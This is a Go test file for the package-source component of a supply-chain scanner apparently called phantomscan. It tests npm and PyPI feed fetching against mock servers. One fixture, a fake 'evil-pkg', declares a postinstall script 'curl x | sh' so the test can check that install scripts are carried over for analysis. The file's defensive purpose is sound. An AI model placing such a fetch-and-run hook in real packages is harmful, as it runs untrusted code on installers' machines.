package sources

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/phantomscan/phantomscan/internal/model"
	"github.com/phantomscan/phantomscan/internal/policy"
)

var testNow = time.Date(2025, 6, 1, 12, 0, 0, 0, time.UTC)

func TestLoadJSONL(t *testing.T) {
	path := filepath.Join(t.TempDir(), "seed.jsonl")
	body := `{"ecosystem":"pypi","name":"pkg-a","version":"1.0.0"}
not json at all
{"ecosystem":"cargo","name":"wrong-eco"}
{"ecosystem":"npm","name":""}

{"ecosystem":"npm","name":"pkg-b","maintainers_count":3}
`
	if err := os.WriteFile(path, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}

	cands, err := LoadJSONL(path, 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(cands) != 2 {
		t.Fatalf("loaded %d candidates, want 2: %+v", len(cands), cands)
	}
	if cands[0].Name != "pkg-a" || cands[1].Name != "pkg-b" {
		t.Errorf("candidates = %+v", cands)
	}
	if cands[1].MaintainersCount != 3 {
		t.Errorf("maintainers = %d, want 3", cands[1].MaintainersCount)
	}
}

func TestLoadJSONLLimit(t *testing.T) {
	path := filepath.Join(t.TempDir(), "seed.jsonl")
	var body string
	for i := 0; i < 10; i++ {
		body += fmt.Sprintf(`{"ecosystem":"npm","name":"pkg-%d"}`+"\n", i)
	}
	if err := os.WriteFile(path, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}

	cands, err := LoadJSONL(path, 3)
	if err != nil {
		t.Fatal(err)
	}
	if len(cands) != 3 {
		t.Errorf("loaded %d candidates, want 3", len(cands))
	}
}

func TestLoadJSONLMissingFile(t *testing.T) {
	if _, err := LoadJSONL(filepath.Join(t.TempDir(), "absent.jsonl"), 0); err == nil {
		t.Fatal("expected error for missing file")
	}
}

func TestDisposableEmail(t *testing.T) {
	domains := []string{"mailinator.com", "tempmail.com"}

	tests := []struct {
		email string
		want  bool
	}{
		{"alice@mailinator.com", true},
		{"Bob@MAILINATOR.COM", true},
		{"carol@example.com", false},
		{"", false},
	}
	for _, tt := range tests {
		if got := disposableEmail(tt.email, domains); got != tt.want {
			t.Errorf("disposableEmail(%q) = %v, want %v", tt.email, got, tt.want)
		}
	}
}

func TestNPMFetchRecent(t *testing.T) {
	mux := http.NewServeMux()
	mux.HandleFunc("/_changes", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `{"results":[{"id":"evil-pkg"},{"id":"_design/app"},{"id":"dead-pkg"}]}`)
	})
	mux.HandleFunc("/evil-pkg", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `{
			"name": "evil-pkg",
			"description": "totally legit",
			"homepage": "https://example.com",
			"dist-tags": {"latest": "1.0.0"},
			"time": {"created": "2025-05-30T00:00:00Z"},
			"repository": {"url": "https://github.com/o/r"},
			"maintainers": [{"name": "mal", "email": "mal@mailinator.com"}],
			"versions": {"1.0.0": {"scripts": {"postinstall": "curl x | sh"}}}
		}`)
	})
	mux.HandleFunc("/dead-pkg", func(w http.ResponseWriter, r *http.Request) {
		http.NotFound(w, r)
	})
	srv := httptest.NewServer(mux)
	defer srv.Close()

	pol := policy.Default()
	pol.Sources.NPM.ChangesFeed = srv.URL + "/_changes"
	pol.Network.NPMRegistry = srv.URL
	pol.Heuristics.DisposableEmailDomains = []string{"mailinator.com"}

	src := NewNPM(pol)
	src.now = func() time.Time { return testNow }

	cands, err := src.FetchRecent(context.Background(), 10)
	if err != nil {
		t.Fatal(err)
	}
	// dead-pkg 404s and is skipped; the _design doc is filtered up front.
	if len(cands) != 1 {
		t.Fatalf("candidates = %+v, want one", cands)
	}

	c := cands[0]
	if c.Ecosystem != model.EcosystemNPM || c.Name != "evil-pkg" || c.Version != "1.0.0" {
		t.Errorf("candidate = %+v", c)
	}
	if c.Repository != "https://github.com/o/r" {
		t.Errorf("repository = %q (object form should decode)", c.Repository)
	}
	if c.CreatedAt.IsZero() {
		t.Error("created_at not parsed")
	}
	if c.MaintainerAgeDays == nil || *c.MaintainerAgeDays != 2 {
		t.Errorf("maintainer_age_days = %v, want 2", c.MaintainerAgeDays)
	}
	if c.Scripts["postinstall"] == "" {
		t.Error("latest version scripts not carried over")
	}
	if c.DisposableEmail == nil || !*c.DisposableEmail {
		t.Error("disposable email not flagged")
	}
}

func TestRepositoryURL(t *testing.T) {
	tests := []struct {
		raw  string
		want string
	}{
		{`"https://github.com/o/r"`, "https://github.com/o/r"},
		{`{"type":"git","url":"git+https://github.com/o/r.git"}`, "git+https://github.com/o/r.git"},
		{``, ""},
		{`42`, ""},
	}
	for _, tt := range tests {
		if got := repositoryURL([]byte(tt.raw)); got != tt.want {
			t.Errorf("repositoryURL(%s) = %q, want %q", tt.raw, got, tt.want)
		}
	}
}

func TestPyPIFetchRecent(t *testing.T) {
	const feed = `<?xml version="1.0"?>
<rss><channel>
  <item><title>fresh-pkg 1.0.0</title></item>
  <item><title>fresh-pkg 1.0.0</title></item>
</channel></rss>`

	mux := http.NewServeMux()
	mux.HandleFunc("/rss/packages.xml", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, feed)
	})
	mux.HandleFunc("/rss/updates.xml", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, feed)
	})
	var detailCalls int
	mux.HandleFunc("/pypi/fresh-pkg/json", func(w http.ResponseWriter, r *http.Request) {
		detailCalls++
		fmt.Fprint(w, `{
			"info": {
				"name": "fresh-pkg",
				"version": "1.0.0",
				"summary": "a fresh package",
				"home_page": "",
				"project_url": "https://pypi.org/project/fresh-pkg/",
				"project_urls": {"Source": "https://github.com/o/fresh"}
			},
			"releases": {
				"1.0.0": [{"upload_time_iso_8601": "2025-05-30T00:00:00Z"}],
				"0.9.0": [{"upload_time_iso_8601": "2025-05-01T00:00:00Z"}]
			}
		}`)
	})
	srv := httptest.NewServer(mux)
	defer srv.Close()

	pol := policy.Default()
	pol.Sources.PyPI.RSSPackages = srv.URL + "/rss/packages.xml"
	pol.Sources.PyPI.RSSUpdates = srv.URL + "/rss/updates.xml"
	pol.Network.PyPIRegistry = srv.URL

	cands, err := NewPyPI(pol).FetchRecent(context.Background(), 10)
	if err != nil {
		t.Fatal(err)
	}
	// Duplicate titles across and within feeds collapse to one candidate.
	if len(cands) != 1 {
		t.Fatalf("candidates = %+v, want one", cands)
	}
	if detailCalls != 1 {
		t.Errorf("detail calls = %d, want 1", detailCalls)
	}

	c := cands[0]
	if c.Name != "fresh-pkg" || c.Version != "1.0.0" || c.Description != "a fresh package" {
		t.Errorf("candidate = %+v", c)
	}
	if c.Repository != "https://github.com/o/fresh" {
		t.Errorf("repository = %q, want project_urls Source entry", c.Repository)
	}
	if c.Homepage != "https://pypi.org/project/fresh-pkg/" {
		t.Errorf("homepage = %q, want project_url fallback", c.Homepage)
	}
	// Creation time is the earliest upload across all releases.
	want := time.Date(2025, 5, 1, 0, 0, 0, 0, time.UTC)
	if !c.CreatedAt.Equal(want) {
		t.Errorf("created_at = %v, want %v", c.CreatedAt, want)
	}
}

func TestAll(t *testing.T) {
	srcs := All(policy.Default())
	if len(srcs) != 2 {
		t.Fatalf("sources = %d, want 2", len(srcs))
	}
	if srcs[0].Ecosystem() != model.EcosystemNPM || srcs[1].Ecosystem() != model.EcosystemPyPI {
		t.Errorf("ecosystems = %v, %v", srcs[0].Ecosystem(), srcs[1].Ecosystem())
	}
}
